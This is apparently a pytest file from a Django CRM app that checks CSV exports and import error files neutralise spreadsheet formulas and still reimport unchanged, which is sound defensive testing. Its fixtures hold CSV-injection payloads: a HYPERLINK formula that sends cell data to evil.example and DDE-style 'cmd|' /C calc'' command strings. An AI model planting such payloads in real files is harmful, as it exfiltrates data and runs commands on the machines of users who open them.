"""CSV files Kehu writes (exports, import error files) hold no live formula and still import back as they are."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client

from kehu.core.spreadsheet import FORMULA_START, csv_safe, csv_unsafe
from kehu.customers.models import Customer
from kehu.imports.models import ImportJob
from kehu.purchases.models import Transaction

from .conftest import counts, errors_of, write_csv

pytestmark = pytest.mark.urls("tests.imports.urls")

EVIL = '=HYPERLINK("http://evil.example/?d="&C2,"点击查看")'


def client_for(user) -> Client:
    client = Client(headers={"Accept-Language": "en"})
    client.force_login(user)
    return client


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def live_formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run (OWASP: starting with = + - @ tab or carriage return)."""
    return [cell for row in rows for cell in row if cell[:1] in FORMULA_START]


@pytest.mark.parametrize("text", [
    EVIL, "+86 138 0013 8000", "-12.50", "@SUM(A1:A9)", "\t=1+1", "\r=1", "'=already quoted", "''+1", "'plain",
    "plain", "", "a=b", "张三",
])
def test_neutralising_is_exactly_undone(text):
    safe = csv_safe(text)
    assert safe[:1] not in FORMULA_START
    assert csv_unsafe(safe) == text


def test_csv_export_of_a_hostile_customer_holds_no_live_formula_and_imports_back(
        make_customer, users, run_import, tmp_path):
    make_customer(EVIL, code="E1", mobile="13800138000", email="-x@evil.example", address="-2+3",
                  notes="+cmd|' /C calc'!A0", person={"employer": "@SUM(1+1)*cmd|' /C calc'!A0"})
    client = client_for(users["administrator"])
    response = client.post("/imports/export/", {"file_format": "csv", "include_personal_data": "on",
                                                "reason": "备份"})
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    rows = read_csv(data)
    assert live_formulas(rows) == []
    row = rows[1]
    assert "'" + EVIL in row and "'+8613800138000" in row and "'-2+3" in row and "'-x@evil.example" in row
    # written back, the export changes nothing: the quotes come off on reading
    path = tmp_path / "export.csv"
    path.write_bytes(data)
    job = run_import(path, key="code")
    assert counts(job) == (0, 0, 1, 0), errors_of(job)
    customer = Customer.objects.get(code="E1")
    assert (customer.name, customer.mobile, customer.address) == (EVIL, "+8613800138000", "-2+3")
    assert customer.email == "-x@evil.example"


def test_masked_csv_export_of_a_hostile_customer_holds_no_live_formula(make_customer, users):
    make_customer(EVIL, code="E2", mobile="13800138000", notes="-1")
    response = client_for(users["marketer"]).post("/imports/export/", {"file_format": "csv"})
    assert response.status_code == 200
    rows = read_csv(b"".join(response.streaming_content))
    assert len(rows) == 2 and live_formulas(rows) == []
    assert "'" + EVIL in rows[1]


def test_error_file_is_neutralised_and_reimports_as_it_is(tmp_path, users, org, settings,
                                                          django_capture_on_commit_callbacks):
    settings.MEDIA_ROOT = tmp_path / "media"
    source = write_csv(tmp_path / "客户.csv", [
        ["客户编号", "姓名", "手机", "门店", "备注"],
        ["F1", EVIL, "+86 138 0013 8000", "XX", "-1"],
        ["F2", "@张三", "+86 139 0013 9000", "NOPE", "=1+1"],
    ])
    client = client_for(users["administrator"])
    from kehu.imports.services import import_job_create, import_run

    job = import_job_create(target="customers", file_path=source, language="en", key="code", mode="skip-bad",
                            user=users["administrator"])
    job = import_run(job=job)
    assert counts(job) == (0, 0, 0, 2)
    report = client.get(f"/imports/{job.pk}/errors.csv")
    assert report.status_code == 200
    data = b"".join(report.streaming_content)
    rows = read_csv(data)
    assert live_formulas(rows) == []
    assert rows[1][:5] == ["F1", "'" + EVIL, "'+86 138 0013 8000", "XX", "'-1"]
    # the user fixes the branches and imports the error file as it is
    fixed = data.decode("utf-8-sig").replace(",XX,", ",SH1,").replace(",NOPE,", ",SH1,")
    path = tmp_path / "fixed.csv"
    path.write_text(fixed, encoding="utf-8-sig")
    again = run_again(path, users["administrator"])
    assert counts(again) == (2, 0, 0, 0), errors_of(again)
    first, second = Customer.objects.get(code="F1"), Customer.objects.get(code="F2")
    assert (first.name, first.mobile, first.notes) == (EVIL, "+8613800138000", "-1")
    assert (second.name, second.mobile, second.notes) == ("@张三", "+8613900139000", "=1+1")


def run_again(path, user) -> ImportJob:
    from kehu.imports.services import import_job_create, import_run

    job = import_job_create(target="customers", file_path=path, language="en", key="code", mode="skip-bad",
                            user=user)
    return import_run(job=job)


def test_transaction_error_file_keeps_negative_amounts(tmp_path, run_import, make_customer, users):
    from kehu.imports.services import import_error_report

    path = write_csv(tmp_path / "t.csv", [
        ["流水号", "客户编号", "交易时间", "金额"],
        ["R1", "K404", "2025-03-01", "-12.50"],
    ])
    job = run_import(path, "transactions", key="code")
    assert counts(job) == (0, 0, 0, 1)
    report = tmp_path / "errors.csv"
    import_error_report(job=job, out=str(report))
    rows = read_csv(report.read_bytes())
    assert live_formulas(rows) == [] and rows[1][3] == "'-12.50"
    make_customer("退货客户", code="K404")
    again = run_import(report, "transactions", key="code")
    assert counts(again) == (1, 0, 0, 0), errors_of(again)
    assert Transaction.objects.get(external_ref="R1").amount == Decimal("-12.50")


def test_a_spreadsheet_saved_from_an_error_file_reads_without_the_quotes(tmp_path, run_import, org):
    from .conftest import write_xlsx

    path = write_xlsx(tmp_path / "fixed.xlsx", [
        ["客户编号", "姓名", "手机", "门店"],
        ["S1", "'" + EVIL, "'+86 138 0013 8000", "SH1"],
        ["S2", "'quoted on purpose", "", "SH1"],
    ])
    job = run_import(path, key="code")
    assert counts(job) == (2, 0, 0, 0), errors_of(job)
    assert Customer.objects.get(code="S1").name == EVIL
    assert Customer.objects.get(code="S1").mobile == "+8613800138000"
    assert Customer.objects.get(code="S2").name == "'quoted on purpose"
